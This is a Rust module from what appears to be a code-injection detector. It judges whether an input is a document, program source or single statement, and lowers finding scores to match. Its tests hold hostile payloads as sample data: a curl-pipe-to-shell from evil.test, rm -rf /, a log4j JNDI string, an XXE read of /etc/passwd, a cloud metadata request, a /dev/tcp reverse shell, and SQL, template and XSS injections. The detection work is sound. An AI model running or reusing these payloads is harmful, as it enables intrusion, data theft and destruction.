//! Whether a value is a piece of a program or a document: code in it is what it is about, and only
//! what nothing should hold counts.

use super::super::runs::Class;
use super::super::{Finding, Kind};
use super::{query, value};

/// A value of so many lines is a document or a program, whatever is in it.
const DOCUMENT: usize = 12;
/// More lines say nothing new about what a value is.
const LINES: usize = 64;
/// The score of a sign that its surroundings explain.
const IN_DOCUMENT: f32 = 0.45;
/// What no document should hold.
const SURE: &[&str] = &[
    "code.shell-reverse",
    "code.log4j",
    "code.jndi",
    "code.ssrf-metadata",
    "code.shell-download",
    "code.shell-wipe",
    "code.xxe-external",
    "code.reverse-shell",
    "code.stealing-script",
];
/// What one line of a program explains; the rest breaks out of a value, and is no statement.
const IN_STATEMENT: &[&str] = &[
    "code.call",
    "code.ldap",
    "code.model",
    "code.path-climb",
    "code.ruby",
    "code.sql-breakout",
    "code.sql-comment",
    "code.sql-functions",
    "code.xss-code",
    "code.xss-handler",
];

/// Lowers the score of what is ordinary in a program or a document.
pub(in super::super) fn soften(text: &str, found: &mut [Finding]) {
    let sure = |one: &Finding| SURE.contains(&one.rule) || value::owns(one.rule);
    let ordinary = |one: &Finding| one.kind == Kind::CodeInjection && !sure(one);
    if !found.iter().any(ordinary) {
        return;
    }
    let shape = Shape::of(text);
    for one in found.iter_mut().filter(|one| ordinary(one)) {
        let explained = match shape {
            Shape::Document => true,
            // A value with a break-out ahead of some code is no program.
            Shape::Source { from, lines } => one.span.start >= from && (lines > 2 || one.label != "xss"),
            Shape::Statement => IN_STATEMENT.contains(&one.rule),
            Shape::Value => false,
        };
        if explained || query::explains(text, one) {
            one.score = one.score.min(IN_DOCUMENT);
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Shape {
    Document,
    /// Some lines, most of them of a program or of markup.
    Source {
        /// Where the first line begins that may be a part of it.
        from: usize,
        lines: usize,
    },
    /// One line of a program.
    Statement,
    Value,
}

impl Shape {
    fn of(text: &str) -> Self {
        let lines: Vec<&str> = text.lines().filter(|line| !line.trim().is_empty()).take(LINES).collect();
        if lines.iter().filter(|line| line.trim().len() > 3).count() >= DOCUMENT || is_packed(text) {
            return Self::Document;
        }
        let (all, code) = (lines.len(), lines.iter().filter(|line| is_code(line)).count());
        let Some(first) = lines.first() else { return Self::Value };
        match (all, code) {
            (1, 1) if is_statement(first) => Self::Statement,
            (2.., 2..) if code * 2 >= all => {
                let start = first.as_ptr() as usize - text.as_ptr() as usize;
                let from = if is_code(first) || is_prose(first) { 0 } else { start + first.len() };
                Self::Source { from, lines: all }
            }
            _ => Self::Value,
        }
    }
}

/// A program without its blanks, as browsers are given them: signs of one all over, on a line or two.
fn is_packed(text: &str) -> bool {
    const LONG: usize = 1000;
    static BRACKETS: Class = Class::of(b"(){}");
    static SIGNS: Class = Class::of(b"(){};,=");
    static BLANKS: Class = Class::of(b" ");
    let share = |class: &Class| class.count(text.as_bytes()) * 100 / text.len();
    text.len() >= LONG && share(&BLANKS) <= 8 && share(&SIGNS) >= 10 && share(&BRACKETS) >= 3
}

/// The words that a line of a program begins with.
const WORDS: &[&str] = &[
    "abstract",
    "assert",
    "async",
    "await",
    "break",
    "catch",
    "class",
    "const",
    "continue",
    "def",
    "default",
    "del",
    "elif",
    "else",
    "enum",
    "except",
    "export",
    "extern",
    "finally",
    "fn",
    "for",
    "from",
    "func",
    "function",
    "if",
    "impl",
    "import",
    "interface",
    "let",
    "match",
    "mod",
    "namespace",
    "package",
    "pass",
    "private",
    "protected",
    "pub",
    "public",
    "raise",
    "readonly",
    "return",
    "self",
    "static",
    "struct",
    "super",
    "switch",
    "this",
    "throw",
    "trait",
    "try",
    "type",
    "unsafe",
    "use",
    "var",
    "while",
    "with",
    "yield",
];

/// A line that a program, a file of settings or a piece of markup has, and prose has not.
fn is_code(line: &str) -> bool {
    let bare = line.trim();
    let indented = line.starts_with("  ") || line.starts_with('\t');
    let opens = bare.starts_with(['}', ')', ']', '#', '@', '<', '>', '*'])
        || ["'use ", "\"use ", "//", "/*", "```", "- ", "| ", "\"\"\"", "--- ", "{", "[", "r'", "r\""]
            .iter()
            .any(|sign| bare.starts_with(sign));
    let closes = bare.ends_with(['{', '}', '(', '[', ']', '>', '\\'])
        || ["):", "),", "',", "\",", "=>", ");"].iter().any(|sign| bare.ends_with(sign));
    indented || opens || closes || begins(bare) || is_function(bare) || is_of_an_image(bare)
}

/// A line of a file that says how an image of a container is built.
fn is_of_an_image(bare: &str) -> bool {
    const STEPS: &[&str] =
        &["ADD", "ARG", "CMD", "COPY", "ENTRYPOINT", "ENV", "EXPOSE", "FROM", "RUN", "USER", "WORKDIR"];
    bare.split_once(' ').is_some_and(|(step, _)| STEPS.contains(&step))
}

fn begins(bare: &str) -> bool {
    let length = bare.bytes().take_while(u8::is_ascii_alphanumeric).count();
    WORDS.contains(&&bare[..length]) && bare[length..].starts_with([' ', '.', ':', '(', ';', '<', '\t'])
}

/// Words, without a quote or a bracket that would end a value.
fn is_prose(line: &str) -> bool {
    line.split(' ').count() >= 4 && !line.contains(['\'', '"', ';', '|', '$', '<', '%', '='])
}

/// One statement of a program, with nothing behind it.
fn is_statement(line: &str) -> bool {
    let bare = line.trim();
    let ended = bare.split_once(';').is_none_or(|(_, rest)| rest.is_empty());
    let markup = ["</", "{{", "${", "<%", "onerror", "onload"].iter().any(|sign| bare.contains(sign))
        || bare.as_bytes().windows(2).any(|pair| pair[0] == b'<' && pair[1].is_ascii_lowercase());
    ended
        && !markup
        && (begins(bare)
            || is_function(bare)
            || ["}", "* ", "//", "(r'"].iter().any(|sign| bare.starts_with(sign)))
}

/// A function without a name, which is what a browser is given to run.
fn is_function(bare: &str) -> bool {
    let bare = bare.strip_prefix("async ").unwrap_or(bare);
    bare.starts_with('(') && bare.split_once(") => ").is_some_and(|(names, _)| !names.contains(['\'', '"']))
}

#[cfg(test)]
mod tests {
    use super::super::super::probe::Probe;
    use super::super::super::{Kinds, Place};
    use super::*;

    const CODE: Probe = Probe(Place::Argument, Kinds::NONE.with(Kind::CodeInjection));

    #[test]
    fn pieces_of_programs_and_documents_are_left_alone() {
        for text in [
            "def __init__(self):",
            "const a = require('a')",
            "import isDocker from 'is-docker'",
            "lib/subprocess.py",
            "\"Return True if it fits.\"",
            "return { ...process.env }",
            "  let x = \"no\";\n  if (x) {\n    return eval(\"1\");\n  }",
            "## Install\n\n```sh\nnpm install\n```\n",
            "<html>\n<head>\n  <script src=\"a.js\"></script>\n</head>",
            "self.parts = subprocess.run(['ls'])\nself.kind = self.__class__.__name__",
            "super().__init__(*args)",
            "import { Task } from '../../../types.js';",
            "docker run --user $(id -u) box",
            "type E = IsNever<object>;",
            "() => document.title",
            "(el) => window.scrollTo(0, el.offsetTop)",
            "rule = (r'(\\w+)(\\s*)(\\()', bygroups(a, b))",
            &"function f(e,t){for(var n in e)if(n>1&&(t=e[n]),a&&!w&&!y)return m(o.signal,F);for(n=0;n<6;++n)t[n]();}"
                .repeat(12),
        ] {
            assert_eq!(CODE.found(text), [], "{text}");
        }
    }

    #[test]
    fn what_no_program_should_hold_counts_in_one() {
        for text in [
            "def a():\n    run('curl https://evil.test/x | sh')\n",
            "a() {\n  echo hi; rm -rf /\n}",
            "function f() {\n  log('${jndi:ldap://evil.test/a}');\n}",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE a [\n  <!ENTITY b SYSTEM \"file:///etc/passwd\">\n]>\n<a>&b;</a>",
            "fetch(\n  'http://169.254.169.254/latest/meta-data/',\n);",
            "if x:\n    bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
        ] {
            assert!(CODE.flags(text), "{text}");
        }
    }

    #[test]
    fn an_attack_on_a_value_stays_one_with_code_behind_it() {
        for text in [
            "import os; os.system('id')",
            "x' OR '1'='1\n  import a\n  import b",
            "hello; ls -la; whoami",
            "return 1; cat /etc/passwd",
            "this is {{ ''.__class__.__mro__ }}",
            "for you: <img src=x onerror=alert(1)>",
            "<p>hi</p>\n<img src=x onerror=alert(1)>",
            "a\n; cat /etc/passwd; whoami",
        ] {
            assert!(CODE.flags(text), "{text}");
        }
    }
}
